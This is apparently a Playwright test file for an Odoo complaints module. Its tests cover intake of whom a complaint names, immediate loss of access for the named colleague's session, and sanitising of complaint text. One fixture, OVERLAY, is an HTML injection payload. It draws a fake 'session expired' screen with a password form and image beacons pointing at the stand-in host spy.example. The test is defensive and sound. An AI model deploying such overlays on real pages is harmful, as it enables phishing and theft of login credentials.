"""Whom a complaint is about: asked at intake, and shut at once in an open browser."""

import pytest
from life import walk
from pictures import LANGUAGES, photograph, speak
from playwright.sync_api import expect
from rpc import Refused

QUESTION = {"nl": "Vraag beantwoorden", "en": "Answer the question"}
YES = {"nl": "Ja", "en": "Yes"}
CONFIRM = {"nl": "Bevestigen", "en": "Confirm"}
OVERLAY = (
    '<div class="modal d-block" style="position:fixed;top:0;left:0;width:100vw;'
    'height:100vh;background:#fff url(http://spy.example/c);z-index:99999">'
    "<h1>Uw sessie is verlopen</h1>"
    '<form action="http://spy.example"><input name="password"></form>'
    '<img src="http://spy.example/1.gif" srcset="//spy.example/2.gif 2x"></div>'
)
WORDS = "Ik sprak de heer Kwaliteit. Hij lachte mij uit en hing op."


def file_complaint(people, organisation, subject, words):
    clerk = people["SD"]
    [procedure] = clerk.search_read(
        "complaint.procedure", [("id", "=", organisation.procedure_id)], ["team_id"]
    )
    return clerk.create(
        "helpdesk.ticket",
        {
            "name": subject,
            "description": f"<p>{words}</p>",
            "team_id": procedure["team_id"][0],
            "partner_name": "T. Verzonnen",
            "partner_email": "verzonnen@elders.example",
        },
    )


@pytest.mark.parametrize("lang", LANGUAGES)
def test_registrar_is_asked_whom_it_is_about(
    lang, people, organisation, browser, folder
):
    """The colleague whom the complaint names stands there; one chooses and confirms."""
    clerk, named = people["SD"], people["GOS"]
    case = file_complaint(people, organisation, "Uitgelachen aan de telefoon", WORDS)
    speak([clerk], LANGUAGES[lang])
    try:
        page = browser.page(f"/odoo/complaints/{case}", clerk)
        question = page.locator(".alert", has_text=QUESTION[lang])
        expect(question).to_contain_text("Gijs Kwaliteit")
        page.get_by_role("button", name=QUESTION[lang]).click()
        dialog = page.locator(".modal")
        expect(dialog.locator("[name=proposed_ids]")).to_contain_text("Gijs Kwaliteit")
        dialog.get_by_label(YES[lang], exact=True).check()
        search = dialog.locator("[name=partner_ids] input")
        search.fill("Gijs")
        page.get_by_role("option", name="Gijs Kwaliteit").or_(
            page.locator(".o-autocomplete--dropdown-item", has_text="Gijs Kwaliteit")
        ).first.click()
        dialog.locator(".modal-title").click()
        photograph(page, folder / f"about-person-{lang}.png")
        dialog.get_by_role("button", name=CONFIRM[lang]).click()
        expect(dialog).to_have_count(0)
        expect(question).to_be_hidden()
    finally:
        speak([clerk], LANGUAGES["nl"])
    with pytest.raises(Refused):
        named.case(case, "name")
    parties = clerk.search_read(
        "complaint.party", [("ticket_id", "=", case)], ["kind", "name"]
    )
    assert ("complained_about", "Gijs Kwaliteit") in {
        (party["kind"], party["name"]) for party in parties
    }


def test_running_session_is_shut_at_once(people, post, organisation, browser):
    """He has the case open; once it is about him nothing of it can be had any more."""
    officer, accused = people["officer"], people["SLM"]
    case = file_complaint(people, organisation, "Geheim onderwerp", "Geheime woorden.")
    walk(case, people, post, until="Informatie inwinnen")
    officer.call("helpdesk.ticket", "message_post", [case], body="Alleen voor ons")
    page = browser.page(f"/odoo/complaints/{case}", accused)
    expect(page.locator(".o-mail-Message", has_text="Alleen voor ons")).to_be_visible()
    [user] = officer.search_read(
        "res.users", [("id", "=", accused.uid)], ["partner_id"]
    )
    officer.create(
        "complaint.party",
        {
            "ticket_id": case,
            "kind": "complained_about",
            "partner_id": user["partner_id"][0],
        },
    )
    # pushed: the open page drops the messages without being touched
    expect(page.locator(".o-mail-Message", has_text="Alleen voor ons")).to_have_count(0)
    # the same session asks again
    page.goto(page.url.split("/odoo")[0] + "/odoo/complaints")
    expect(page.locator(".o_kanban_renderer")).to_be_visible()
    expect(page.locator("body")).not_to_contain_text("Geheim onderwerp")
    for fields in (["name"], ["statement", "message_ids"]):
        with pytest.raises(Refused):
            accused.call("helpdesk.ticket", "read", [case], fields)
    found = accused.search_read(
        "mail.message",
        [("model", "=", "helpdesk.ticket"), ("res_id", "=", case)],
        ["body"],
    )
    assert found == []


def test_words_from_outside_cover_nothing_and_call_nobody(
    people, organisation, browser, folder
):
    """A complaint that draws a fake page over Odoo and counts who reads it."""
    officer, elsewhere = people["officer"], []
    case = file_complaint(people, organisation, "Vals scherm", OVERLAY)
    page = browser.page("/odoo/complaints", officer)
    page.on("request", lambda request: elsewhere.append(request.url))
    page.goto(page.url.split("/odoo")[0] + f"/odoo/complaints/{case}")
    words = page.locator("[name=statement]").first
    expect(words).to_contain_text("Uw sessie is verlopen")
    expect(words).to_contain_text("spy.example")
    photograph(page, folder / "words-from-outside.png")
    fixed = words.evaluate(
        """(field) => [...field.querySelectorAll("*")].filter((element) =>
            ["fixed", "absolute", "sticky"].includes(
                getComputedStyle(element).position)).length"""
    )
    assert not fixed
    assert not [url for url in elsewhere if "spy.example" in url]
